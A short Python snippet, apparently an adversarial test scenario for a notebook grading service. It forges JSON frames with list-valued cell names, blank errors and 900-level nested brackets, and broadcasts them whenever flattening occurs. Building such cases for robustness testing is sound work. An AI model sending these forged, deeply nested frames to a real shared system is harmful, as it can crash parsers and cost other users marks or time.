"""Frames tell of cells whose names are lists, and of errors that are blank or nested deeply.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
Forges: yes
"""

def act():
    nested = "[" * 900 + "]" * 900
    for text in ('{"cell": []}', '{"cell": {}, "stdout": 1}', '{"cell": "layers-Linear", "stdout": "", "error": " "}',
                 '{"cell": "layers-Flatten", "stdout": "", "error": ' + nested + "}",
                 '{"exercise": ' + nested + ', "check": null, "answer": {}}'):
        write_everywhere(frame(text.encode()))
when_flattening(act)
act()
